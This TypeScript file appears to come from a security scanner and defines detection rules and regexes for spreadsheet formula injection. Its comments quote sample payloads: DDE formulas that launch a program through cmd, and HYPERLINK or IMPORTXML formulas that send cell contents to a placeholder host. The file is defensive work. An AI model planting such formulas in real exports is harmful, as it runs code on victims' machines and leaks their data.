/**
 * Spreadsheet formula injection (CSV injection): a cell an application stores and later exports
 * to CSV or Excel is a formula when it opens there. DDE runs a program on the machine of whoever
 * opens the sheet (`=cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"x")`, behind `@SUM(…)*` or
 * arithmetic); a fetching function joined to cells sends their contents out
 * (`=HYPERLINK("https://x/?d="&A1,"open")`, `=IMPORTXML(CONCAT("https://x/?",A2:E2),"//a")`).
 * A formula that only calculates, or links to a fixed address, is left alone.
 */
import type { RulePack } from '../types';
import { classRule } from './class-rule';

const rule = classRule('CommandInjection');

export const DDE_FORMULA = rule(
  400126,
  'CommandAnalyzer: spreadsheet DDE formula that runs a program where the sheet is opened (CSV injection)',
  'critical',
  'high',
  85,
);
export const EXFILTRATING_FORMULA = rule(
  400127,
  'CommandAnalyzer: spreadsheet formula that fetches a URL joined to cell contents (CSV injection sending the sheet out)',
  'critical',
  'high',
  70,
);

/**
 * `program|'arguments'!item`, Excel's DDE reference (the arguments may quote a string of their own:
 * `DownloadString('http://…')`) naming an item (`!A0`, `!''`), and the DDE()/DDEAUTO() functions.
 */
const DDE = /\b[a-z][\w.]{0,20}\s{0,3}\|\s{0,3}'[^\n]{0,400}?'\s{0,3}!\s{0,3}(?:['"]?[\w$]|'')|(?:^|[\s=+\-@*(,;"'])dde(?:auto)?\s{0,3}\(\s{0,3}"/;
/** A fetching function opening a cell, its URL string followed by a cell reference (joined with `&` or in CONCAT). */
const FETCH_WITH_CELLS =
  /(?:^|[\n\r\t,;"=+\-@(*])\s{0,3}(?:hyperlink|importxml|importdata|importhtml|importfeed|importrange|image|webservice|filterxml)\s{0,3}\(\s{0,3}(?:concat(?:enate)?\s{0,3}\(\s{0,3})?"{1,2}(?:https?:)?\/\/[^"\n]{1,300}"{1,2}\s{0,3}[&,]\s{0,3}(?:concat(?:enate)?\s{0,3}\(\s{0,3})?\$?[a-z]{1,3}\$?\d{1,7}\b/;

export const formulaInjectionPack: RulePack = {
  name: 'formula',
  classification: 'CommandInjection',
  rules: [DDE_FORMULA, EXFILTRATING_FORMULA],
  // An imported CSV file is an upload.
  readsUploads: true,
  prefilter: (v) => {
    const text = v.lower;
    return (text.indexOf('|') >= 0 && text.indexOf("'") >= 0) || text.indexOf('dde') >= 0 || (text.indexOf('//') >= 0 && text.indexOf('(') >= 0);
  },
  inspect: (v, report) => {
    if (DDE.test(v.lower)) report(DDE_FORMULA);
    if (FETCH_WITH_CELLS.test(v.lower)) report(EXFILTRATING_FORMULA);
  },
};
